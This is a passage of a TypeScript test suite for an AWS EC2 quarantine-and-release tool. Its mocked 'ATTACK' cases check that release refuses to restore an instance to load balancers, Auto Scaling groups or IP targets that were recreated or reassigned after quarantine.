        { InstanceId: INSTANCE_ID, AutoScalingGroupName: GROUP, LifecycleState: 'Standby', HealthStatus: 'HEALTHY', AvailabilityZone: `${REGION}a`, ProtectedFromScaleIn: true },
      ],
    });
    asMock.on(DescribeAutoScalingGroupsCommand).resolves({ AutoScalingGroups: [group({ DesiredCapacity: 4, MaxSize: 4 })] });
    asMock.on(DescribeLifecycleHooksCommand).resolves({ LifecycleHooks: [] });
    asMock.on(ExitStandbyCommand).rejects(sdkError('ValidationError', 400));
    const result = await release({}, 'enforce', { ...autoScaling, mode: 'standby' });
    expect(result.status).toBe('released');
    expect(asMock.commandCalls(ExitStandbyCommand)).toHaveLength(0);
    expect(asMock.commandCalls(SetInstanceProtectionCommand)).toHaveLength(0);
    expect(result.actions.find((a) => a.api === 'autoscaling:ExitStandby')).toMatchObject({ outcome: 'skipped', detail: expect.stringContaining('maximum size') as unknown });
    expect(result.fleet?.autoScaling).toContain('stays on standby');
  });

  it("leaves the instance out of a group at its maximum size, and out of the group's own target group, saying so", async () => {
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    asMock.on(DescribeAutoScalingGroupsCommand).resolves({ AutoScalingGroups: [group({ DesiredCapacity: 4, MaxSize: 4 })] });
    asMock.on(DescribeLifecycleHooksCommand).resolves({ LifecycleHooks: [] });
    const result = await release();
    expect(asMock.commandCalls(AttachInstancesCommand)).toHaveLength(0);
    expect(result.fleet?.autoScaling).toContain('maximum size');
    expect(result.actions.find((a) => a.target === WEB_TG)?.outcome).toBe('skipped');
  });

  it('leaves the instance out when its group was deleted', async () => {
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    asMock.on(DescribeAutoScalingGroupsCommand).resolves({ AutoScalingGroups: [] });
    asMock.on(DescribeLifecycleHooksCommand).rejects(sdkError('ValidationError'));
    const result = await release();
    expect(asMock.commandCalls(AttachInstancesCommand)).toHaveLength(0);
    expect(result.status).toBe('released');
    expect(result.fleet?.autoScaling).toContain('no longer exists');
  });

  it('ATTACK (review-fleet): the recorded group deleted and another created under its name since quarantine (a record without the group ARN): nothing is attached to it', async () => {
    // Names are reusable: whoever may create groups in the member account made a new web-asg (its
    // own target groups, its own scale-in) after the capture; the record names the group only by name.
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    asMock.on(DescribeAutoScalingGroupsCommand).resolves({
      AutoScalingGroups: [group({ DesiredCapacity: 2, AutoScalingGroupARN: OTHER_GROUP_ARN, CreatedTime: new Date('2026-11-25T08:00:00.000Z') })],
    });
    asMock.on(DescribeLifecycleHooksCommand).resolves({ LifecycleHooks: [] });
    const result = await release();
    expect(result.status).toBe('released');
    expect(asMock.commandCalls(AttachInstancesCommand)).toHaveLength(0);
    expect(asMock.commandCalls(SetInstanceProtectionCommand)).toHaveLength(0);
    expect(result.fleet?.autoScaling).toContain('created after');
    // Its own target group is the new group's to fill: not "already done" by a group the instance is not in.
    expect(result.actions.find((a) => a.target === WEB_TG)?.outcome).toBe('skipped');
  });

  it('ATTACK (review-fleet): a record holding the group ARN refuses a same-named group of another ARN, even one created before the capture time says', async () => {
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    asMock.on(DescribeAutoScalingGroupsCommand).resolves({ AutoScalingGroups: [group({ DesiredCapacity: 2, AutoScalingGroupARN: OTHER_GROUP_ARN })] });
    asMock.on(DescribeLifecycleHooksCommand).resolves({ LifecycleHooks: [] });
    const result = await release({}, 'enforce', { ...autoScaling, groupArn: GROUP_ARN });
    expect(asMock.commandCalls(AttachInstancesCommand)).toHaveLength(0);
    expect(result.fleet?.autoScaling).toContain(OTHER_GROUP_ARN);
    // The same ARN is the same group: attached as before.
    asMock.on(DescribeAutoScalingGroupsCommand).resolves({ AutoScalingGroups: [group({ DesiredCapacity: 2 })] });
    records = new InMemoryQuarantineRecordStore();
    await release({}, 'enforce', { ...autoScaling, groupArn: GROUP_ARN });
    expect(inputsOf(asMock, AttachInstancesCommand)).toEqual([{ AutoScalingGroupName: GROUP, InstanceIds: [INSTANCE_ID] }]);
  });

  it('ATTACK (review-fleet): an ip target whose address is no longer the instance\'s is not registered again (it would send the target group\'s traffic to whatever holds it now)', async () => {
    // 10.0.1.10 was a secondary address of the instance at quarantine; unassigned since (or its ENI
    // detached) and given to another interface, the ip target group would serve that interface.
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    asMock.on(DescribeAutoScalingGroupsCommand).resolves({ AutoScalingGroups: [group({ DesiredCapacity: 2 })] });
    asMock.on(DescribeLifecycleHooksCommand).resolves({ LifecycleHooks: [] });
    const result = await release({}, 'enforce', autoScaling, ['10.0.1.99']);
    expect(result.status).toBe('released');
    expect(elbv2Mock.commandCalls(RegisterTargetsCommand)).toHaveLength(0);
    expect(result.actions.find((a) => a.target === ADMIN_TG)).toMatchObject({ outcome: 'skipped', detail: expect.stringContaining('10.0.1.10') as unknown });
    // The instance itself is still registered where it was (the classic load balancer).
    expect(inputsOf(elbMock, RegisterInstancesWithLoadBalancerCommand)).toEqual([{ LoadBalancerName: LEGACY_LB, Instances: [{ InstanceId: INSTANCE_ID }] }]);
  });

  it('ATTACK (review-fleet): a Classic Load Balancer deleted and created again under the recorded name since quarantine: the instance is not registered with it', async () => {
    // A classic load balancer is named, never numbered: whoever may delete and create load balancers
    // in the member account can put an internet-facing one (the old one's security group, so the
    // instance's rules let it in) under the recorded name, and release would serve the instance there.
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    asMock.on(DescribeAutoScalingGroupsCommand).resolves({ AutoScalingGroups: [group({ DesiredCapacity: 2 })] });
    asMock.on(DescribeLifecycleHooksCommand).resolves({ LifecycleHooks: [] });
    elbMock.on(DescribeLoadBalancersCommand).resolves({
      LoadBalancerDescriptions: [{ LoadBalancerName: LEGACY_LB, Scheme: 'internet-facing', VPCId: VPC, CreatedTime: new Date('2026-11-25T08:00:00.000Z'), Instances: [] }],
    });
    const result = await release();
    expect(result.status).toBe('released');
    expect(elbMock.commandCalls(RegisterInstancesWithLoadBalancerCommand)).toHaveLength(0);
    expect(inputsOf(elbMock, DescribeLoadBalancersCommand)).toEqual([{ LoadBalancerNames: [LEGACY_LB] }]);
    expect(result.actions.find((a) => a.api === 'elasticloadbalancing:RegisterInstancesWithLoadBalancer' && a.target === LEGACY_LB)).toMatchObject({
      outcome: 'skipped',
      detail: expect.stringContaining('created after the capture') as unknown,
    });
    // The rest of the release goes on: its ip target group, at the address it still holds.
    expect(inputsOf(elbv2Mock, RegisterTargetsCommand)).toEqual([{ TargetGroupArn: ADMIN_TG, Targets: [{ Id: '10.0.1.10', Port: 8443, AvailabilityZone: `${REGION}a` }] }]);
    // Deleted and not created again: nothing to register with.
    elbMock.on(DescribeLoadBalancersCommand).rejects(sdkError('AccessPointNotFoundException', 400));
    records = new InMemoryQuarantineRecordStore();
    const gone = await release();
    expect(elbMock.commandCalls(RegisterInstancesWithLoadBalancerCommand)).toHaveLength(0);
    expect(gone.actions.find((a) => a.api === 'elasticloadbalancing:RegisterInstancesWithLoadBalancer')).toMatchObject({ outcome: 'skipped', detail: expect.stringContaining('gone') as unknown });
  });

  it('changes nothing in the group or the load balancers in dry-run', async () => {
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    asMock.on(DescribeAutoScalingGroupsCommand).resolves({ AutoScalingGroups: [group({ DesiredCapacity: 2 })] });
    asMock.on(DescribeLifecycleHooksCommand).resolves({ LifecycleHooks: [] });
    givenDryRunsSucceed();
    const result = await release({}, 'dry-run');
    expect(asMock.commandCalls(AttachInstancesCommand)).toHaveLength(0);
    expect(elbv2Mock.commandCalls(RegisterTargetsCommand)).toHaveLength(0);
    expect(result.actions.filter((a) => a.outcome === 'would-do' && a.api.startsWith('autoscaling:')).every((a) => a.detail.includes('cannot dry-run'))).toBe(true);
  });

  it('restores nothing of the fleet when the options are off, and says so', async () => {
    const result = await release({ restoreAutoScaling: false, restoreLoadBalancers: false });
    expect(clients.asked).toEqual([]);
    expect(result.actions.filter((a) => a.outcome === 'skipped' && a.detail.includes('is off'))).toHaveLength(2);
  });
});

describe('fleet and edge options together (one quarantine, one release)', () => {
  const EIP = { AllocationId: 'eipalloc-0aaa000000000001', AssociationId: 'eipassoc-0aaa00000000001', PublicIp: '203.0.113.10', NetworkInterfaceId: ENI_A, PrivateIpAddress: '10.0.1.10', InstanceId: INSTANCE_ID, Domain: 'vpc' as const };
  const APPROVED: ReleaseClearance = {
    // Cleared by the guard at the record as the release reads it (its claim serial bound in the grant).
    check: async (_input, record) => ({ cleared: true, approvedBy: 'carol', approvedAt: NOW.toISOString(), executionArn: 'arn:aws:states:eu-west-1:111122223333:execution:Firebreak-release-instance:r', mode: 'enforce', releaseRecord: { capturedAt: record.capturedAt, claimSerial: record.claimSerial ?? 0 } }),
  };

  it('records the group, the registrations, the Elastic IP and the metadata settings in one sealed record, and release restores all four', async () => {
    const described = describedInstance({ enis: [{ id: ENI_A, groups: [APP_SG, MON_SG] }, { id: ENI_B, groups: [DB_SG] }] });
    // ENI A's private address: the ip target group registers it by address.
    const interfaces = described.NetworkInterfaces?.map((eni) => (eni.NetworkInterfaceId === ENI_A ? { ...eni, PrivateIpAddresses: [{ PrivateIpAddress: EIP.PrivateIpAddress, Primary: true }] } : eni));
    ec2Mock.on(DescribeInstancesCommand).resolves({
      Reservations: [{ Instances: [{ ...described, NetworkInterfaces: interfaces, MetadataOptions: { HttpEndpoint: 'enabled', HttpTokens: 'optional', HttpPutResponseHopLimit: 2, State: 'applied' } }] }],
    });
    ec2Mock.on(DescribeAddressesCommand).resolves({ Addresses: [EIP] });
    ec2Mock.on(DisassociateAddressCommand).resolves({});
    ec2Mock.on(ModifyInstanceMetadataOptionsCommand).resolves({});
    givenGroup();
    givenLoadBalancers();
    const contained = await quarantine({ disassociateElasticIps: true, instanceMetadata: 'disable' });
    expect(contained.status).toBe('quarantined');
    // Every change of both kinds, with its exact input, after the record and beside (or after) isolation.
    expect(inputsOf(asMock, DetachInstancesCommand)).toEqual([{ AutoScalingGroupName: GROUP, InstanceIds: [INSTANCE_ID], ShouldDecrementDesiredCapacity: false }]);
    expect(inputsOf(elbv2Mock, DeregisterTargetsCommand)).toEqual([{ TargetGroupArn: ADMIN_TG, Targets: [{ Id: '10.0.1.10', Port: 8443, AvailabilityZone: `${REGION}a` }] }]);
    expect(inputsOf(elbMock, DeregisterInstancesFromLoadBalancerCommand)).toEqual([{ LoadBalancerName: LEGACY_LB, Instances: [{ InstanceId: INSTANCE_ID }] }]);
    expect(inputsOf(ec2Mock, DisassociateAddressCommand)).toEqual([{ AssociationId: EIP.AssociationId }]);
    expect(inputsOf(ec2Mock, ModifyInstanceMetadataOptionsCommand)).toEqual([{ InstanceId: INSTANCE_ID, HttpEndpoint: 'disabled', HttpTokens: 'optional', HttpPutResponseHopLimit: 2 }]);
    const record = await records.get(ACCOUNT, REGION, INSTANCE_ID);
    expect(record).toMatchObject({
      autoScaling: { groupName: GROUP, mode: 'detach', protectedFromScaleIn: false },
      loadBalancers: { classic: [{ loadBalancerName: LEGACY_LB, managedByGroup: false }] },
      elasticIps: [{ allocationId: EIP.AllocationId, networkInterfaceId: ENI_A, privateIpAddress: EIP.PrivateIpAddress, publicIp: EIP.PublicIp }],
      instanceMetadata: { httpEndpoint: 'enabled', httpTokens: 'optional', httpPutResponseHopLimit: 2 },
    });
    expect(record && (await TEST_SEALER.verify(record))).toEqual({ valid: true });

    // Release, from that very record: the instance as quarantine left it, out of its group and its load balancers.
    for (const mock of [ec2Mock, asMock, elbv2Mock, elbMock]) mock.reset();
    givenMutationsSucceed(ec2Mock);
    givenInstance(ec2Mock, { enis: [{ id: ENI_A, groups: [ISOLATION_SG] }, { id: ENI_B, groups: [ISOLATION_SG] }], tags: { 'firebreak:status': 'quarantined' } });
    const isolated = describedInstance({ enis: [{ id: ENI_A, groups: [ISOLATION_SG] }, { id: ENI_B, groups: [ISOLATION_SG] }], tags: { 'firebreak:status': 'quarantined' } });
    // Still holding 10.0.1.10, the address its ip target group registers (row 3k).
    isolated.NetworkInterfaces = isolated.NetworkInterfaces?.map((eni) => (eni.NetworkInterfaceId === ENI_A ? { ...eni, PrivateIpAddresses: [{ PrivateIpAddress: EIP.PrivateIpAddress, Primary: true }] } : eni));
    ec2Mock.on(DescribeInstancesCommand).resolves({
      Reservations: [{ Instances: [{ ...isolated, MetadataOptions: { HttpEndpoint: 'disabled', HttpTokens: 'optional', HttpPutResponseHopLimit: 2 } }] }],
    });
    ec2Mock.on(DescribeSecurityGroupsCommand).resolves({ SecurityGroups: [APP_SG, DB_SG, MON_SG].map((GroupId) => ({ GroupId, OwnerId: ACCOUNT, VpcId: VPC, GroupName: GroupId })) });
    ec2Mock.on(DescribeAddressesCommand).resolves({ Addresses: [{ AllocationId: EIP.AllocationId, PublicIp: EIP.PublicIp, Domain: 'vpc' }] });
    ec2Mock.on(AssociateAddressCommand).resolves({ AssociationId: 'eipassoc-new' });
    ec2Mock.on(ModifyInstanceMetadataOptionsCommand).resolves({});
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    asMock.on(DescribeAutoScalingGroupsCommand).resolves({ AutoScalingGroups: [group()] });
    asMock.on(DescribeLifecycleHooksCommand).resolves({ LifecycleHooks: [] });
    for (const command of [AttachInstancesCommand, SetInstanceProtectionCommand]) asMock.on(command as never).resolves({});
    elbv2Mock.on(RegisterTargetsCommand).resolves({});
    elbMock.on(RegisterInstancesWithLoadBalancerCommand).resolves({});
    elbMock.on(DescribeLoadBalancersCommand).resolves({ LoadBalancerDescriptions: [{ LoadBalancerName: LEGACY_LB, VPCId: VPC, CreatedTime: new Date('2025-01-01T00:00:00.000Z'), Instances: [] }] });
    const released = await releaseInstance(
      { incident: ec2Incident(), mode: 'enforce', options: { restoreInstanceProfile: true, restoreAutoScaling: true, restoreLoadBalancers: true } },
      { clients, logger: silentLogger, records, sealer: TEST_SEALER, clearance: APPROVED, environment: { FIREBREAK_MODE: 'enforce' }, now: () => NOW },
    );
    expect(released.status).toBe('released');
    expect(inputsOf(asMock, AttachInstancesCommand)).toEqual([{ AutoScalingGroupName: GROUP, InstanceIds: [INSTANCE_ID] }]);
    expect(inputsOf(elbv2Mock, RegisterTargetsCommand)).toEqual([{ TargetGroupArn: ADMIN_TG, Targets: [{ Id: '10.0.1.10', Port: 8443, AvailabilityZone: `${REGION}a` }] }]);
    expect(inputsOf(elbMock, RegisterInstancesWithLoadBalancerCommand)).toEqual([{ LoadBalancerName: LEGACY_LB, Instances: [{ InstanceId: INSTANCE_ID }] }]);
    expect(inputsOf(ec2Mock, AssociateAddressCommand)).toEqual([{ AllocationId: EIP.AllocationId, NetworkInterfaceId: ENI_A, PrivateIpAddress: EIP.PrivateIpAddress, AllowReassociation: false }]);
    expect(inputsOf(ec2Mock, ModifyInstanceMetadataOptionsCommand)).toEqual([{ InstanceId: INSTANCE_ID, HttpEndpoint: 'enabled', HttpTokens: 'optional', HttpPutResponseHopLimit: 2 }]);
  });
});

describe('order and speed with every fleet and edge option on', () => {
  /** The fixture's clients, the Auto Scaling and ELB ones tracked as round trips too. */
  class TrackedFleetClients extends TestClientFactory {
    private readonly as = this.instrument(new AutoScalingClient({ region: REGION }), 'autoscaling');
    private readonly v2 = this.instrument(new ElasticLoadBalancingV2Client({ region: REGION }), 'elasticloadbalancing');
    private readonly v1 = this.instrument(new ElasticLoadBalancingClient({ region: REGION }), 'elasticloadbalancing-classic');
    readonly autoScaling = async () => this.as;
    readonly elbv2 = async () => this.v2;
    readonly elb = async () => this.v1;
  }
  class TrackedStore extends InMemoryQuarantineRecordStore {
    constructor(private readonly factory: TestClientFactory) {
      super();
    }
    override async saveIfAbsent(record: QuarantineRecord): Promise<'saved' | 'exists'> {
      return this.factory.roundTrip('store:saveIfAbsent', () => super.saveIfAbsent(record));
    }
  }

  async function measure(options: Partial<QuarantineOptions>) {
    const tracked = new TrackedFleetClients();
    const incident = ec2Incident();
    await quarantineInstance(
      { incident, mode: 'enforce', options: { detachInstanceProfile: true, revokeRoleSessions: false, autoScaling: 'off', deregisterFromLoadBalancers: false, ...options }, execution: EXECUTION },
      {
        clients: tracked,
        logger: silentLogger,
        records: new TrackedStore(tracked),
        sealer: tracked.trackSealer(TEST_SEALER),
        grants: tracked.trackGrants(storeGranting(incident, NOW)),
        environment: stepEnvironment({ detachInstanceProfile: true, revokeRoleSessions: false, autoScaling: 'off', deregisterFromLoadBalancers: false, ...options }),
        now: () => NOW,
      },
    );
    return tracked;
  }

  it('keeps the EC2 budget (4 sequential EC2 round trips, the first move in the 1st after the describe); the group read adds one round trip before the first move', async () => {
    givenGroup();
    givenLoadBalancers();
    ec2Mock.on(DescribeAddressesCommand).resolves({ Addresses: [] });
    ec2Mock.on(ModifyInstanceMetadataOptionsCommand).resolves({});
    const described = describedInstance({ enis: [{ id: ENI_A, groups: [APP_SG, MON_SG] }, { id: ENI_B, groups: [DB_SG] }] });
    ec2Mock.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [{ ...described, MetadataOptions: { HttpEndpoint: 'enabled', HttpTokens: 'optional', HttpPutResponseHopLimit: 2, State: 'applied' } }] }] });
    const off = await measure({});
    const on = await measure({ autoScaling: 'detach', deregisterFromLoadBalancers: true, disassociateElasticIps: true, instanceMetadata: 'disable' });
    // DESIGN's budget, 4 + 2 x ENIs sequential EC2 calls: 4 with two ENIs, options or not.
    expect([off.ec2Depth, on.ec2Depth]).toEqual([4, 4]);
    expect(off.firstStarted('ec2:ModifyNetworkInterfaceAttribute')).toMatchObject({ depth: 4, ec2Depth: 1 });
    // The Auto Scaling group and target-group health are read in two steps (instance, then its
    // group and hooks; target groups, then their health once EC2 named the VPC): one round trip
    // more before the record, so the first move is in the 5th round trip instead of the 4th.
    expect(on.firstStarted('ec2:ModifyNetworkInterfaceAttribute')).toMatchObject({ depth: 5, ec2Depth: 1 });
    for (const read of ['autoscaling:DescribeAutoScalingInstances', 'elasticloadbalancing:DescribeTargetGroups', 'elasticloadbalancing-classic:DescribeLoadBalancers', 'ec2:DescribeAddresses']) {
      expect(on.firstStarted(read)).toMatchObject({ depth: 1, ec2Depth: 0 });
    }
    expect(on.firstStarted('autoscaling:DescribeAutoScalingGroups').depth).toBe(2);
    expect(on.firstStarted('elasticloadbalancing:DescribeTargetHealth').depth).toBe(2);
    // Out of the group's hands beside the moves, never before the first one: protection in the
    // round trip of the first move, the detach beside the isolation move.
    const firstMove = on.firstStarted('ec2:ModifyNetworkInterfaceAttribute');
    expect(on.firstStarted('autoscaling:SetInstanceProtection').depth).toBe(firstMove.depth);
    expect(on.firstStarted('elasticloadbalancing-classic:DeregisterInstancesFromLoadBalancer').depth).toBe(firstMove.depth);
    expect(on.firstStarted('autoscaling:DetachInstances').depth).toBe(firstMove.depth + 1);
    // The edges after the last move (the metadata option and the address, when there is one, with the credentials).
    const lastMoveDepth = Math.max(...on.started.filter((c) => c.call === 'ec2:ModifyNetworkInterfaceAttribute').map((c) => c.depth));
    expect(on.firstStarted('ec2:ModifyInstanceMetadataOptions').depth).toBeGreaterThan(lastMoveDepth);
  });
});

describe('review-3j: what the checks of rows 3j-3l compare with (rows 3m-3o)', () => {
  const APPROVED: ReleaseClearance = {
    check: async (_input, record) => ({ cleared: true, approvedBy: 'carol', approvedAt: NOW.toISOString(), executionArn: 'arn:aws:states:eu-west-1:111122223333:execution:Firebreak-release-instance:r', mode: 'enforce', releaseRecord: { capturedAt: record.capturedAt, claimSerial: record.claimSerial ?? 0 } }),
  };
  const ATTACKER_ENI = 'eni-0eee5555ffff6666a';
  type Interfaces = NonNullable<ReturnType<typeof describedInstance>['NetworkInterfaces']>;

  /** The instance's ENIs with their private addresses (the first one primary). */
  function withAddresses(enis: { id: string; vpcId?: string; addresses: string[] }[], groups: string[] = [ISOLATION_SG]): Interfaces {
    const described = describedInstance({ enis: enis.map(({ id, vpcId }) => ({ id, groups, ...(vpcId ? { vpcId } : {}) })) });
    return (described.NetworkInterfaces ?? []).map((eni, index) => ({ ...eni, PrivateIpAddresses: enis[index]!.addresses.map((PrivateIpAddress, n) => ({ PrivateIpAddress, Primary: n === 0 })) }));
  }

  /** release-instance from the stored record, with the instance's ENIs as EC2 describes them now. */
  async function releaseNow(interfaces: Interfaces, classicCreated = new Date('2025-01-01T00:00:00.000Z'), fleetNow: () => void = () => undefined) {
    for (const mock of [ec2Mock, asMock, elbv2Mock, elbMock]) mock.reset();
    givenMutationsSucceed(ec2Mock);
    givenInstance(ec2Mock, { enis: [{ id: ENI_A, groups: [ISOLATION_SG] }, { id: ENI_B, groups: [ISOLATION_SG] }], tags: { 'firebreak:status': 'quarantined' } });
    const isolated = describedInstance({ enis: [{ id: ENI_A, groups: [ISOLATION_SG] }, { id: ENI_B, groups: [ISOLATION_SG] }], tags: { 'firebreak:status': 'quarantined' } });
    ec2Mock.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [{ ...isolated, NetworkInterfaces: interfaces }] }] });
    ec2Mock.on(DescribeSecurityGroupsCommand).resolves({ SecurityGroups: [APP_SG, DB_SG, MON_SG].map((GroupId) => ({ GroupId, OwnerId: ACCOUNT, VpcId: VPC, GroupName: GroupId })) });
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    asMock.on(DescribeAutoScalingGroupsCommand).resolves({ AutoScalingGroups: [group()] });
    asMock.on(DescribeLifecycleHooksCommand).resolves({ LifecycleHooks: [] });
    for (const command of [AttachInstancesCommand, SetInstanceProtectionCommand, ExitStandbyCommand]) asMock.on(command as never).resolves({});
    elbv2Mock.on(RegisterTargetsCommand).resolves({});
    elbMock.on(RegisterInstancesWithLoadBalancerCommand).resolves({});
    elbMock.on(DescribeLoadBalancersCommand).resolves({ LoadBalancerDescriptions: [{ LoadBalancerName: LEGACY_LB, Scheme: 'internet-facing', VPCId: VPC, CreatedTime: classicCreated, Instances: [] }] });
    fleetNow();
    return releaseInstance(
      { incident: ec2Incident(), mode: 'enforce', options: { restoreInstanceProfile: true, restoreAutoScaling: true, restoreLoadBalancers: true } },
      { clients, logger: silentLogger, records, sealer: TEST_SEALER, clearance: APPROVED, environment: { FIREBREAK_MODE: 'enforce' }, now: () => NOW },
    );
  }

  /** quarantine-instance with every fleet option on, its clock at `clock()`. */
  function quarantineAt(clock: () => number) {
    const incident = ec2Incident();
    const options = { detachInstanceProfile: true, revokeRoleSessions: false, autoScaling: 'detach', deregisterFromLoadBalancers: true } as const;
    return quarantineInstance(
      { incident, mode: 'enforce', options, execution: EXECUTION },
      { clients, logger: silentLogger, records, sealer: TEST_SEALER, grants: storeGranting(incident, NOW), environment: stepEnvironment(options), now: () => new Date(clock()) },
    );
  }

  it('ATTACK (review-3j): a Classic Load Balancer created again under its name while quarantine was still reading the fleet is refused at release (row 3m)', async () => {
    // The classic read answers at once; the target-group health fan-out of a large account, and the
    // rest before the record, take seconds. Between the classic read and the record, whoever may
    // delete and create load balancers puts another legacy-web under the name.
    let clock = NOW.getTime();
    let classicReadAt = 0;
    givenGroup();
    givenLoadBalancers();
    elbMock.on(DescribeLoadBalancersCommand).callsFake(() => {
      classicReadAt = clock;
      return { LoadBalancerDescriptions: [{ LoadBalancerName: LEGACY_LB, VPCId: VPC, Instances: [{ InstanceId: INSTANCE_ID }] }] };
    });
    elbv2Mock.on(DescribeTargetHealthCommand).callsFake(() => {
      clock += 4000;
      return { TargetHealthDescriptions: [] };
    });
    ec2Mock.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [{ ...describedInstance(), NetworkInterfaces: withAddresses([{ id: ENI_A, addresses: ['10.0.1.10'] }, { id: ENI_B, addresses: ['10.0.1.20'] }], [APP_SG]) }] }] });
    const contained = await quarantineAt(() => clock);
    expect(contained.status).toBe('quarantined');
    expect(classicReadAt).toBeGreaterThan(0);
    const record = await records.get(ACCOUNT, REGION, INSTANCE_ID);
    expect(record?.loadBalancers?.classic).toEqual([{ loadBalancerName: LEGACY_LB, managedByGroup: false }]);
    // The capture is no later than the read that found the registration.
    expect(Date.parse(record!.capturedAt)).toBeLessThanOrEqual(classicReadAt);

    // The attacker's legacy-web: created 2 s after the classic read, before the record was written.
    const released = await releaseNow(withAddresses([{ id: ENI_A, addresses: ['10.0.1.10'] }, { id: ENI_B, addresses: ['10.0.1.20'] }]), new Date(classicReadAt + 2000));
    expect(released.status).toBe('released');
    expect(elbMock.commandCalls(RegisterInstancesWithLoadBalancerCommand)).toHaveLength(0);
    expect(released.actions.find((a) => a.api === 'elasticloadbalancing:RegisterInstancesWithLoadBalancer')).toMatchObject({ outcome: 'skipped', detail: expect.stringContaining('created after the capture') as unknown });
  });

  it('ATTACK (review-3j): an ip target\'s address held by an ENI attached to the instance since quarantine, in another VPC of the same range, is not registered (row 3n)', async () => {
    // 10.0.1.10 was ENI A's secondary address at quarantine (the ip target group's VPC). Since, it
    // was moved to an interface of the attacker in that VPC, and an ENI of a VPC of theirs with the
    // same range, holding 10.0.1.10 there, was attached to the instance (multi-VPC ENI attachment).
    // EC2 shows 10.0.1.10 on the instance; the target group would send its traffic to theirs.
    await records.saveIfAbsent(
      await sealed({
        ...recordOfDefaultInstance(ec2Incident().key, NOW.toISOString()),
        loadBalancers: { targets: [{ targetGroupArn: ADMIN_TG, targetId: '10.0.1.10', port: 8443, availabilityZone: `${REGION}a`, managedByGroup: false }], classic: [] },
      }),
    );
    const released = await releaseNow(withAddresses([
      { id: ENI_A, addresses: ['10.0.1.5'] },
      { id: ENI_B, addresses: ['10.0.1.20'] },
      { id: ATTACKER_ENI, vpcId: OTHER_VPC, addresses: ['10.0.1.10'] },
    ]));
    expect(released.status).toBe('released');
    expect(elbv2Mock.commandCalls(RegisterTargetsCommand)).toHaveLength(0);
    expect(released.actions.find((a) => a.target === ADMIN_TG)).toMatchObject({ outcome: 'skipped', detail: expect.stringContaining('10.0.1.10') as unknown });
  });

  it('ATTACK (review-3j): an ip target\'s address moved to another of the instance\'s recorded ENIs, in another VPC, is not registered (row 3n)', async () => {
    // A record that names the ENI which held the address: only that ENI holding it counts.
    await records.saveIfAbsent(
      await sealed({
        ...recordOfDefaultInstance(ec2Incident().key, NOW.toISOString()),
        loadBalancers: { targets: [{ targetGroupArn: ADMIN_TG, targetId: '10.0.1.10', networkInterfaceId: ENI_A, port: 8443, availabilityZone: `${REGION}a`, managedByGroup: false }], classic: [] },
      }),
    );
    // ENI B, of the instance since before quarantine, is in another VPC (its groups there) whose range holds 10.0.1.10 too.
    const released = await releaseNow(withAddresses([{ id: ENI_A, addresses: ['10.0.1.5'] }, { id: ENI_B, vpcId: OTHER_VPC, addresses: ['10.0.1.20', '10.0.1.10'] }]), undefined, () => {
      ec2Mock.on(DescribeSecurityGroupsCommand).resolves({
        SecurityGroups: [
          { GroupId: APP_SG, OwnerId: ACCOUNT, VpcId: VPC, GroupName: APP_SG },
          ...[DB_SG, MON_SG].map((GroupId) => ({ GroupId, OwnerId: ACCOUNT, VpcId: OTHER_VPC, GroupName: GroupId })),
        ],
      });
    });
    expect(released.status).toBe('released');
    expect(elbv2Mock.commandCalls(RegisterTargetsCommand)).toHaveLength(0);
    expect(released.actions.find((a) => a.target === ADMIN_TG)).toMatchObject({ outcome: 'skipped', detail: expect.stringContaining(ENI_A) as unknown });
  });

  it('review-3m: an ip target\'s recorded ENI detached from the instance (attached to another instance, keeping its id and address) is not registered (row 3n holds)', async () => {
    // The record names ENI B as the holder of 10.0.1.10. Since, ENI B was detached and attached to
    // an instance of the attacker: it keeps its id and the address, but DescribeInstances of the
    // quarantined instance no longer lists it, and release reads the ENIs from there alone.
    await records.saveIfAbsent(
      await sealed({
        ...recordOfDefaultInstance(ec2Incident().key, NOW.toISOString()),
        loadBalancers: { targets: [{ targetGroupArn: ADMIN_TG, targetId: '10.0.1.10', networkInterfaceId: ENI_B, port: 8443, availabilityZone: `${REGION}a`, managedByGroup: false }], classic: [] },
      }),
    );
    const released = await releaseNow(withAddresses([{ id: ENI_A, addresses: ['10.0.1.5'] }]));
    expect(released.status).toBe('released');
    expect(elbv2Mock.commandCalls(RegisterTargetsCommand)).toHaveLength(0);
    expect(released.actions.find((a) => a.target === ADMIN_TG)).toMatchObject({ outcome: 'skipped', detail: expect.stringContaining(`not held by ${ENI_B}`) as unknown });
    // Attached again and holding it: registered.
    expect(ipTargetRefusal({ targetId: '10.0.1.10', networkInterfaceId: ENI_B }, INSTANCE_ID, [{ networkInterfaceId: ENI_A, vpcId: VPC, addresses: ['10.0.1.5'] }, { networkInterfaceId: ENI_B, vpcId: VPC, addresses: ['10.0.1.20', '10.0.1.10'] }], new Set([ENI_A, ENI_B]))).toBeUndefined();
  });

  it('ATTACK (review-3j): an instance on standby in a group of the recorded name that Auto Scaling does not describe is not taken out of standby, nor its protection changed (row 3o)', async () => {
    // The membership names web-asg, but DescribeAutoScalingGroups does not list it (created a moment
    // ago and not yet listed, or deleted in between): nothing tells it from a group created again
    // under the name, so ExitStandby and SetInstanceProtection by name are not sent.
    await records.saveIfAbsent(
      await sealed({
        ...recordOfDefaultInstance(ec2Incident().key, NOW.toISOString()),
        autoScaling: { groupName: GROUP, groupArn: GROUP_ARN, mode: 'standby', lifecycleState: 'InService', protectedFromScaleIn: false, desiredCapacity: 2, minSize: 1, maxSize: 4 },
      }),
    );
    const released = await releaseNow(withAddresses([{ id: ENI_A, addresses: ['10.0.1.10'] }, { id: ENI_B, addresses: ['10.0.1.20'] }]), undefined, () => {
      asMock.on(DescribeAutoScalingInstancesCommand).resolves({
